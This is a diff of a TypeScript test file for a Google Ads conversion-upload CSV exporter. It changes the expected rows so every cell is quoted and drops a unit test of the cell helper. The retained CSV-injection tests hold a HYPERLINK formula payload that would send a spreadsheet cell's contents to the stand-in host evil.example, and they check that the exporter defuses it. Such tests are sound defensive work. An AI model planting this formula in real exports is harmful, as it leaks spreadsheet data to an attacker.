@@ -3,7 +3,7 @@ import { adParameters } from '@/lib/leads/attribution';
 import { leadRow, type StoredLead } from '../store/lead-store';
 import { sampleAdmission, sampleLead } from '@/test-support/sample-lead';
 import { conversionName, conversionNameProblems } from '@/lib/validations/conversion-name';
-import { cell, toGoogleAdsCsv, type ConversionLead } from './google-ads-export';
+import { toGoogleAdsCsv, type ConversionLead } from './google-ads-export';
 
 /** A new lead that landed on `landing_url` and was received at `received_at`. */
 const stored = (
@@ -44,19 +44,19 @@ describe("Google Ads' click-conversion upload", () => {
     expect(csv).toBe(
       'Parameters:TimeZone=+0530\r\n' +
         'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency\r\n' +
-        'Cj0KCQiA_abc-123,Admission enquiry,2026-11-20 10:00:00,,\r\n' +
-        'EAIaIQob,Admission enquiry,2026-11-22 00:15:59,,\r\n',
+        '"Cj0KCQiA_abc-123","Admission enquiry","2026-11-20 10:00:00","",""\r\n' +
+        '"EAIaIQob","Admission enquiry","2026-11-22 00:15:59","",""\r\n',
     );
     expect([exported, skipped]).toEqual([2, 1]);
   });
 
-  it('gives every row the value and currency asked for, quoting a name that needs it', () => {
+  it('gives every row the value and currency asked for, each cell quoted', () => {
     const { csv } = toGoogleAdsCsv(leads.slice(0, 1), {
       conversion: 'Enquiry, "qualified"',
       value: { amount: '1500.50', currency: 'INR' },
     });
     expect(csv.split('\r\n')[2]).toBe(
-      'Cj0KCQiA_abc-123,"Enquiry, ""qualified""",2026-11-20 10:00:00,1500.50,INR',
+      '"Cj0KCQiA_abc-123","Enquiry, ""qualified""","2026-11-20 10:00:00","1500.50","INR"',
     );
   });
 
@@ -82,25 +82,6 @@ describe("Google Ads' click-conversion upload", () => {
 describe("Google Ads' file against formula cells (OWASP's CSV injection guidance)", () => {
   const PAYLOAD = '=HYPERLINK("https://evil.example/?c="&A1,"Click")';
 
-  it('defuses a cell that a spreadsheet would run as a formula, whatever it starts with', () => {
-    expect(cell(PAYLOAD)).toBe(`"'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")"`);
-    expect(['+1+1', '-2-3', '@SUM(A1)', ' =1+1', '\t=1', '\r=1'].map(cell)).toEqual([
-      "'+1+1",
-      "'-2-3",
-      "'@SUM(A1)",
-      "' =1+1",
-      "'\t=1",
-      `"'\r=1"`,
-    ]);
-    // Honest cells stay as Google's template has them.
-    expect(['Cj0KCQiA_abc-123', '2026-11-20 10:00:00', '1500.50', 'INR'].map(cell)).toEqual([
-      'Cj0KCQiA_abc-123',
-      '2026-11-20 10:00:00',
-      '1500.50',
-      'INR',
-    ]);
-  });
-
   it('never writes a formula from a conversion name or a click id that starts one', () => {
     const { csv, exported, skipped } = toGoogleAdsCsv(
       [stored(5, 'https://leadwise.example/?gclid=-2-3', '2026-11-20T04:30:00.000Z'), leads[0]],
@@ -108,7 +89,7 @@ describe("Google Ads' file against formula cells (OWASP's CSV injection guidance
     );
     const rows = csv.split('\r\n').slice(2, -1);
     expect(rows).toEqual([
-      `Cj0KCQiA_abc-123,"'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")",2026-11-20 10:00:00,,`,
+      `"Cj0KCQiA_abc-123","'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")","2026-11-20 10:00:00","",""`,
     ]);
     expect([exported, skipped]).toEqual([1, 1]);
   });
